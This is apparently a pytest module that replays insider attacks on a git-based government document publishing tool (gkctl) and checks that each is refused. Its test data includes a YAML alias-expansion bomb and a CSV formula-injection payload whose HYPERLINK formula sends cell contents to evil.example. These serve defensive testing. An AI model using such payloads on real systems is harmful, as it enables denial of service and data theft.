"""Attacks by a clerk with commit access, replayed end to end: attachments, registers, ids, refs, input.

One honest bureau is built, published and pushed to a real bare central repository (with the
hook ``gkctl server init`` installs) per module. Every attack starts from a copy of its clone,
signs with real ssh keys, runs the real commands and pushes; it must be refused with the right
code and exit status, leave the central refs exactly as they were, and let no marker string of
non-public content into any byte of any output.
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from gkctl.core.yamlio import dump_yaml
from gkctl.services.server import init_server
from gkctl.trail.gitutil import commit
from helpers.central import Central, assert_refused, central_repository, push
from helpers.cli import Result, run_cli
from helpers.docs import write_doc
from helpers.sig import Bureau, make_ssh_key, use_ssh_key

SECRET = "mksecretzz"  # planted in non-public content; must never show up in a site or an output


@pytest.fixture(scope="module")
def central(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Central]:
    with central_repository(tmp_path_factory.mktemp("attacks")) as c:
        assert c.first_push is not None and c.first_push.returncode == 0, c.first_push
        yield c



def _refused(c: Central, b: Bureau, code: str, *push_args: str) -> str:
    stderr = assert_refused(c.path, b, code, *push_args)
    assert SECRET not in stderr
    return stderr


def _cli(b: Bureau, *args: str) -> Result:
    res = run_cli(*args, cwd=b.work)
    assert "Traceback" not in res.output, res.output
    assert SECRET not in res.output
    return res


def _step(subject: str, trailers: dict[str, str]) -> str:
    return subject + "\n\n" + "\n".join(f"{k}: {v}" for k, v in trailers.items()) + "\n"


def _no_marker_under(folder: Path) -> None:
    for f in folder.rglob("*"):
        if f.is_file():
            assert SECRET.encode() not in f.read_bytes(), f


def _secret_doc(b: Bureau, rel: str = "docs/2026/2026-bgs-909.md") -> str:
    write_doc(b.work, rel, body=f"# 内部\n\n不予公开的内部事务 {SECRET}。\n", id="2026-bgs-909", kind="非公文",
              doc_number="", category="工作信息", drafter="zhang", formed="2026-11-16", attribute="不予公开",
              basis=[], reason="内部事务信息", title=f"内部事务 {SECRET}")  # fmt: skip
    b.act("zhang")
    commit(b.work, "拟稿：内部事务", [rel])
    return rel


def _public_doc(b: Bureau, attachments: list[object], rel: str = "docs/2026/2026-bgs-910.md",
                doc_id: str = "2026-bgs-910", files: tuple[str, ...] = ()) -> str:
    write_doc(b.work, rel, id=doc_id, kind="非公文", doc_number="", category="工作信息", drafter="zhang",
              formed="2026-11-16", basis=["社会广泛知晓"], title="关于公布审计工作动态的通知",
              attachments=attachments)  # fmt: skip
    b.act("zhang")
    commit(b.work, "拟稿：工作动态", [rel, *files])
    return rel


# -- 1. attachments ---------------------------------------------------------------------------


def test_non_public_document_and_policy_as_attachments_are_refused_everywhere(central: Central) -> None:
    b = central.clone("att-doc")
    secret = _secret_doc(b)
    rel = _public_doc(b, [{"file": secret, "title": "附件一"}, {"file": "policies/people.yaml", "title": "附件二"}])
    res = _cli(b, "validate", rel)
    assert res.exit_code == 1 and "[GK128]" in res.output and f"{rel}:" in res.output
    b.approve_all(rel)
    b.act("wang")
    res = _cli(b, "publish", rel)
    assert res.exit_code == 1 and "附件目录" in res.output
    # the publisher signs a publish commit by hand: verify, the hook and the build refuse it
    b.act("wang")
    commit(b.work, _step("发布", {"Gkctl-Step": "publish", "Gkctl-Document": "2026-bgs-910", "Gkctl-Path": rel,
                                 "Gkctl-Blob": b.blob(rel), "Gkctl-Index": "11500000MB1B37366Q/2026-00077",
                                 "Gkctl-Published": "2026-11-20"}), [], allow_empty=True)  # fmt: skip
    res = _cli(b, "verify")
    assert res.exit_code == 1 and "GK128" in res.output
    _refused(central, b, "GK128")
    out = b.work / "_site"
    res = _cli(b, "build", "--out", str(out))
    assert res.exit_code == 1 and "附件目录" in res.output
    if out.exists():
        _no_marker_under(out)


@pytest.mark.parametrize("built_before", [False, True], ids=["first-build", "after-a-build"])
def test_attachment_that_is_a_copy_of_a_non_public_document_stops_the_build(central: Central, built_before: bool) -> None:
    """Also when the last build's list of non-public documents is brought up to date by the
    difference of the two trees, not read whole."""
    b = central.clone(f"att-copy-{built_before}")
    if built_before:
        assert _cli(b, "build", "--out", str(b.work / "_site")).exit_code == 0
    secret = _secret_doc(b)
    copy = "attachments/2026/说明.txt"
    (b.work / copy).parent.mkdir(parents=True, exist_ok=True)
    (b.work / copy).write_bytes((b.work / secret).read_bytes())
    rel = _public_doc(b, [{"file": copy, "title": "说明"}], files=(copy,))
    b.approve_all(rel)
    b.act("wang")
    assert _cli(b, "publish", rel).exit_code == 0
    out = b.work / "_site"
    res = _cli(b, "build", "--out", str(out))
    assert res.exit_code == 1, res.output
    assert secret in res.output and copy in res.output
    if out.exists():
        _no_marker_under(out)


def test_attachment_of_a_type_not_allowed_is_refused(central: Central) -> None:
    b = central.clone("att-type")
    script = "attachments/2026/run.sh"
    (b.work / script).parent.mkdir(parents=True, exist_ok=True)
    (b.work / script).write_text("echo hi\n", encoding="utf-8")
    rel = _public_doc(b, [{"file": script, "title": "脚本"}], files=(script,))
    res = _cli(b, "validate", rel)
    assert res.exit_code == 1 and "[GK129]" in res.output
    _refused(central, b, "GK129")


def test_id_number_in_a_text_attachment_blocks_check_and_publish(central: Central) -> None:
    b = central.clone("att-scan")
    att = "attachments/2026/名单.txt"
    (b.work / att).parent.mkdir(parents=True, exist_ok=True)
    (b.work / att).write_text("张三 110101199003074258\n", encoding="utf-8")
    rel = _public_doc(b, [{"file": att, "title": "名单"}], files=(att,))
    res = _cli(b, "validate", rel)
    assert res.exit_code == 1 and att in res.output
    for pid, step in (("li", "review"), ("sun", "sign")):
        b.act(pid)
        assert _cli(b, step, rel, "--approve", "-m", "同意").exit_code == 0
    b.act("zhou")
    res = _cli(b, "check", rel, "--approve", "-m", "复核无误")
    assert res.exit_code == 1 and att in res.output


def test_committing_an_attachment_does_not_make_the_office_an_author(central: Central) -> None:
    b = central.clone("att-author")
    att = "attachments/2026/表格.csv"
    rel = _public_doc(b, [{"file": att, "title": "表格"}])
    (b.work / att).parent.mkdir(parents=True, exist_ok=True)
    (b.work / att).write_text("项目,金额\n审计,100\n", encoding="utf-8")
    b.act("zhou")  # the office adds the attachment file, then checks the document
    commit(b.work, "补充附件", [att])
    b.approve_all(rel)
    b.publish(rel)
    assert _cli(b, "verify").exit_code == 0
    assert push(b, "HEAD:refs/heads/att-author").returncode == 0  # main stays where the module put it


# -- 3. registers -------------------------------------------------------------------------------


def _with_registrar(c: Central, name: str) -> tuple[Bureau, str]:
    """A clone where the admin made ``zhaodj`` registrar and he registered one application (pushed)."""
    b = c.clone(name)
    key = make_ssh_key(b.work.parent / f"{name}-keys", "zhaodj")
    b.keys = {**b.keys, "zhaodj": key}
    b.act("wang")
    res = _cli(b, "people", "add", "zhaodj", "--name", "赵登记", "--section", "办公室", "--role", "registrar",
               "--key", key.line)  # fmt: skip
    assert res.exit_code == 0, res.output
    b.act("zhaodj")
    res = _cli(b, "apply", "new", "--channel", "网络", "--applicant-type", "自然人", "--applicant", "王五",
               "--request", "申请公开2025年度审计结果", "--received", "2026-11-02")  # fmt: skip
    assert res.exit_code == 0, res.output
    rel = res.stdout.strip().splitlines()[-1]
    assert rel.startswith("applications/") and (b.work / rel).is_file(), res.output
    proc = push(b, f"HEAD:refs/heads/{name}")
    assert proc.returncode == 0, proc.stderr
    return b, rel


@pytest.mark.parametrize("forged", [False, True], ids=["plain", "forged-trailer"])
def test_drafter_editing_the_applications_register_is_refused(central: Central, forged: bool) -> None:
    name = f"reg-edit-{forged}"
    b, rel = _with_registrar(central, name)
    path = b.work / rel
    path.write_text(path.read_text(encoding="utf-8") + "replied: 2026-11-03\nresult: 予以公开\n", encoding="utf-8")
    b.act("zhang")
    commit(b.work, "答复" + ("\n\nGkctl-Step: apply" if forged else ""), [rel])
    res = _cli(b, "verify")
    assert res.exit_code == 1 and "GK412" in res.output
    _refused(central, b, "GK412", f"HEAD:refs/heads/{name}")


def test_uncommitted_self_granted_registrar_role_does_not_work(central: Central) -> None:
    b, _ = _with_registrar(central, "reg-self")
    people = b.work / "policies" / "people.yaml"
    data = yaml.safe_load(people.read_text(encoding="utf-8"))
    for person in data["people"]:
        if person["id"] == "zhang":
            person["roles"].append("registrar")
    people.write_text(dump_yaml(data), encoding="utf-8")
    b.act("zhang")
    head = b.git("rev-parse", "HEAD")
    res = _cli(b, "apply", "new", "--channel", "网络", "--applicant-type", "自然人", "--applicant", "赵六",
               "--request", "申请公开预算", "--received", "2026-11-05")  # fmt: skip
    assert res.exit_code == 1 and "registrar" in res.output
    assert b.git("rev-parse", "HEAD") == head
    assert b.git("status", "--porcelain", "--", "applications") == ""


# -- 4. duplicate ids ---------------------------------------------------------------------------


def _duplicate(c: Central, b: Bureau, rel: str = "docs/2026/dup.md") -> str:
    doc_id = Path(c.published).stem
    write_doc(b.work, rel, id=doc_id, kind="非公文", doc_number="", category="工作信息", drafter="zhang",
              formed="2026-11-16", basis=["社会广泛知晓"], title="冒用标识的文件")  # fmt: skip
    b.act("zhang")
    commit(b.work, "拟稿：同一个标识", [rel])
    return rel


def test_second_file_with_a_published_id_is_refused_by_steps_verify_and_the_hook(central: Central) -> None:
    b = central.clone("dup-id")
    rel = _duplicate(central, b)
    b.act("li")
    res = _cli(b, "review", rel, "--approve", "-m", "同意")
    assert res.exit_code == 1 and central.published in res.output
    b.act("wang")
    res = _cli(b, "publish", rel)
    assert res.exit_code == 1 and central.published in res.output
    res = _cli(b, "verify")
    assert res.exit_code == 1 and "GK452" in res.output and rel in res.output
    _refused(central, b, "GK452")


def test_build_names_both_files_of_a_shared_id(central: Central) -> None:
    b = central.clone("dup-build")
    rel = _duplicate(central, b)
    doc_id = Path(central.published).stem
    b.act("li")  # approvals forged by hand: steps refuse them, the build must still not guess
    for pid, step in (("li", "review"), ("sun", "sign"), ("zhou", "check"), ("p1", "proofread"),
                      ("p2", "proofread"), ("p3", "proofread"), ("wang", "publish")):  # fmt: skip
        b.act(pid)
        trailers = {"Gkctl-Step": step, "Gkctl-Document": doc_id, "Gkctl-Path": rel, "Gkctl-Blob": b.blob(rel)}
        trailers.update({"Gkctl-Index": "11500000MB1B37366Q/2026-00099", "Gkctl-Published": "2026-11-20"}
                        if step == "publish" else {"Gkctl-Verdict": "approve"})  # fmt: skip
        commit(b.work, _step(step, trailers), [], allow_empty=True)
    res = _cli(b, "build", "--out", str(b.work / "_site"))
    assert res.exit_code == 1, res.output
    assert central.published in res.output and rel in res.output


# -- 5. protected refs --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def tagged(central: Central) -> str:
    """A release tag on the published tip, pushed honestly."""
    central.honest.git("tag", "v2026.11")
    proc = push(central.honest, "refs/tags/v2026.11")
    assert proc.returncode == 0, proc.stderr
    return "v2026.11"


def _rewritten(c: Central, name: str) -> Bureau:
    """A clone whose main dropped its last commit (the publication) and took a new commit instead."""
    b = c.clone(name)
    b.git("reset", "-q", "--hard", "HEAD~1")
    b.act("zhang")
    commit(b.work, "另起一段历史", [], allow_empty=True)
    return b


def test_tag_cannot_be_force_moved_onto_a_rewritten_history(central: Central, tagged: str) -> None:
    b = _rewritten(central, "tag-move")
    b.git("tag", "-f", tagged)
    assert "非快进" in _refused(central, b, "GK460", "--force", f"refs/tags/{tagged}")


def test_tag_cannot_be_deleted(central: Central, tagged: str) -> None:
    b = central.clone("tag-delete")
    _refused(central, b, "GK461", f":refs/tags/{tagged}")


def test_every_new_ref_is_verified_like_main(central: Central) -> None:
    b = central.clone("new-ref")
    use_ssh_key(b.work, b.keys["mallory"])
    commit(b.work, "旁支上的提交", [], allow_empty=True)
    for ref in ("refs/heads/rewrite", "refs/tags/shadow"):
        _refused(central, b, "GK403", f"HEAD:{ref}")


def test_protected_refs_come_from_gkctl_yaml(central: Central) -> None:
    own = Central(init_server(central.base / "central-protect.git").path, central.honest, central.base, central.published)
    b = central.clone("protect-more")
    b.git("remote", "set-url", "origin", str(own.path))
    assert push(b).returncode == 0
    b.act("wang")
    cfg = b.work / "gkctl.yaml"
    data = yaml.safe_load(cfg.read_text(encoding="utf-8"))
    data.pop("protected_branches", None)
    data["protected_refs"] = ["refs/heads/main", "refs/heads/release/*", "refs/tags/*"]
    cfg.write_text(dump_yaml(data), encoding="utf-8")
    commit(b.work, "规则：保护发布分支", ["gkctl.yaml"])
    proc = push(b, "main", "HEAD:refs/heads/release/2026")
    assert proc.returncode == 0, proc.stderr
    _refused(own, b, "GK461", ":refs/heads/release/2026")


# -- handled badly: keys --------------------------------------------------------------------------

ORG = ("--org", "重庆市綦江区审计局", "--code", "11500000MB1B37366Q", "--admin", "wang", "--admin-name", "王主任")


def test_init_takes_a_pub_path_an_at_path_or_the_line_and_refuses_the_rest(central: Central) -> None:
    key = central.honest.keys["wang"]
    for i, given in enumerate((str(key.public), "@" + str(key.public), key.line)):
        target = central.base / f"init-ok-{i}"
        res = _cli(central.honest, "init", str(target), *ORG, "--admin-key", given)
        assert res.exit_code == 0, res.output
        people = yaml.safe_load((target / "policies" / "people.yaml").read_text(encoding="utf-8"))
        assert people["people"][0]["keys"] == [key.line]
    for i, given in enumerate(("keys/admin.pub", "ssh-ed25519 AAAAnotbase64", str(key.private), "@/nonexistent")):
        target = central.base / f"init-bad-{i}"
        res = _cli(central.honest, "init", str(target), *ORG, "--admin-key", given)
        assert res.exit_code == 2, res.output
        assert "Traceback" not in res.output
        assert not target.exists()  # nothing written


def test_people_add_refuses_a_broken_key_before_writing(central: Central) -> None:
    b = central.clone("key-add")
    b.act("wang")
    head = b.git("rev-parse", "HEAD")
    before = (b.work / "policies" / "people.yaml").read_bytes()
    res = _cli(b, "people", "add", "qian", "--name", "钱七", "--section", "办公室", "--role", "reviewer",
               "--key", "keys/qian.pub")  # fmt: skip
    assert res.exit_code == 2 and "keys/qian.pub" in res.output
    assert b.git("rev-parse", "HEAD") == head
    assert (b.work / "policies" / "people.yaml").read_bytes() == before


def test_broken_key_in_people_yaml_is_named_by_validate_and_refused_by_verify_and_the_hook(central: Central) -> None:
    b = central.clone("key-broken")
    people = b.work / "policies" / "people.yaml"
    data = yaml.safe_load(people.read_text(encoding="utf-8"))
    data["people"].append({"id": "qian", "name": "钱七", "section": "办公室", "roles": ["reviewer"],
                           "keys": ["keys/qian.pub"]})  # fmt: skip
    people.write_text(dump_yaml(data), encoding="utf-8")
    res = _cli(b, "validate")
    assert res.exit_code == 1 and "[GK210]" in res.output and "policies/people.yaml:" in res.output
    b.act("wang")  # even the admin's signature does not make a path a key
    commit(b.work, "人员：增加钱七\n\nGkctl-Step: people", ["policies/people.yaml"])
    res = _cli(b, "verify")
    assert res.exit_code == 1 and "GK411" in res.output and "policies/people.yaml" in res.output
    _refused(central, b, "GK411")


# -- handled badly: YAML and types -----------------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


def _front(b: Bureau, rel: str) -> None:
    write_doc(b.work, rel, id=Path(rel).stem, kind="非公文", doc_number="", category="工作信息", drafter="zhang",
              formed="2026-11-16", basis=["社会广泛知晓"], title="关于审计工作的通知")  # fmt: skip


BAD_FRONT = [
    ("alias", "secrecy: 非密\n", "secrecy: 非密\n" + BOMB.replace("a: &a", "summary: &a")),
    ("datetime", "formed: 2026-11-16", "formed: 2026-11-25 10:00:00"),
    ("title-number", "title: 关于审计工作的通知", "title: 12345"),
    ("title-mapping", "title: 关于审计工作的通知", "title: {a: 1}"),
    ("attachments-number", "secrecy: 非密\n", "secrecy: 非密\nattachments: 5\n"),
]


def _bad_front(b: Bureau, rel: str, old: str, new: str) -> int:
    """Write a document at ``rel`` with ``old`` replaced by ``new``; the line that is wrong."""
    _front(b, rel)
    path = b.work / rel
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")
    return 1 + path.read_text(encoding="utf-8").split("\n").index(new.split("\n")[1 if new.startswith("secrecy") else 0])


def test_bad_front_matter_exits_2_with_file_and_line(central: Central) -> None:
    b = central.clone("fm-validate")
    for i, (name, old, new) in enumerate(BAD_FRONT):
        rel = f"docs/2026/2026-bgs-95{i}.md"
        line = _bad_front(b, rel, old, new)
        res = _cli(b, "validate", rel)
        assert res.exit_code == 2, (name, res.output)
        assert f"{rel}:{line}:" in res.output, (name, res.output)
    res = _cli(b, "validate")  # such files do not crash the whole repository's check: each is named
    assert res.exit_code == 2, res.output
    assert all(f"docs/2026/2026-bgs-95{i}.md:" in res.output for i in range(len(BAD_FRONT))), res.output


def test_committed_bad_front_matter_is_refused_by_verify_and_the_hook(central: Central) -> None:
    b = central.clone("fm-push")
    rels = []
    for i, (_, old, new) in enumerate(BAD_FRONT):
        rels.append(f"docs/2026/2026-bgs-95{i}.md")
        _bad_front(b, rels[-1], old, new)
    b.act("zhang")
    commit(b.work, "拟稿", rels)
    res = _cli(b, "verify")
    assert res.exit_code == 1 and all(rel in res.output for rel in rels), res.output
    out = _refused(central, b, "GK100")
    assert all(rel in out for rel in rels), out


def test_alias_bomb_in_a_register_is_refused_quickly(central: Central) -> None:
    import time

    b, rel = _with_registrar(central, "reg-bomb")
    path = b.work / rel
    path.write_text(path.read_text(encoding="utf-8") + BOMB.replace("a: &a", "note: &a"), encoding="utf-8")
    started = time.monotonic()
    res = _cli(b, "validate")
    assert res.exit_code in (1, 2) and f"{rel}:" in res.output and "别名" in res.output, res.output
    assert time.monotonic() - started < 30


# -- handled badly: shallow and corrupt repositories -------------------------------------------


def test_shallow_clone_is_named_in_verify_build_and_status(central: Central) -> None:
    work = central.base / "shallow"
    proc = subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{central.path}", str(work)],
                          capture_output=True, text=True)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    b = Bureau(work, central.honest.keys)
    for args in (("verify",), ("build", "--out", str(work / "_site")), ("status",)):
        res = _cli(b, *args)
        assert res.exit_code == 2, (args, res.output)
        assert "git fetch --unshallow" in res.output
    assert not (work / "_site").exists()


def test_truncated_object_is_named_as_a_corrupt_repository(central: Central) -> None:
    b = central.clone("corrupt")
    blob = b.blob(central.published)
    obj = b.work / ".git" / "objects" / blob[:2] / blob[2:]
    assert obj.is_file()  # the clone keeps the object loose
    obj.chmod(0o644)
    obj.write_bytes(obj.read_bytes()[:10])
    for cache in (b.work / ".git" / "gkctl").glob("*"):
        cache.unlink()  # caches are never needed for correctness: judge from the objects
    res = _cli(b, "verify")
    assert res.exit_code == 2, res.output
    assert "git fsck" in res.output and "---" not in res.output


def test_a_push_that_cannot_be_checked_in_time_is_refused(central: Central) -> None:
    own = Central(init_server(central.base / "central-budget.git").path, central.honest, central.base, central.published)
    subprocess.run(["git", "-C", str(own.path), "config", "gkctl.hookTimeout", "0.01"], check=True)
    b = central.clone("budget")
    b.git("remote", "set-url", "origin", str(own.path))
    assert "gkctl.hookTimeout" in _refused(own, b, "GK463")
    assert own.refs() == ""


# -- 6. CSV formula injection -------------------------------------------------------------------


def test_manifest_csv_cells_cannot_start_a_formula(central: Central) -> None:
    import csv

    b = central.clone("csv")
    title = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
    rel = "docs/2026/2026-bgs-960.md"
    write_doc(b.work, rel, id="2026-bgs-960", kind="非公文", doc_number="", category="工作信息", drafter="zhang",
              formed="2026-11-16", basis=["社会广泛知晓"], title=title)  # fmt: skip
    b.act("zhang")
    commit(b.work, "拟稿", [rel])
    b.approve_all(rel)
    b.publish(rel)
    out = b.work / "_site"
    res = _cli(b, "build", "--out", str(out))
    assert res.exit_code == 0, res.output
    rows = list(csv.reader((out / "manifest.csv").read_text(encoding="utf-8-sig").splitlines()))
    cells = [c for row in rows for c in row]
    assert "'" + title in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
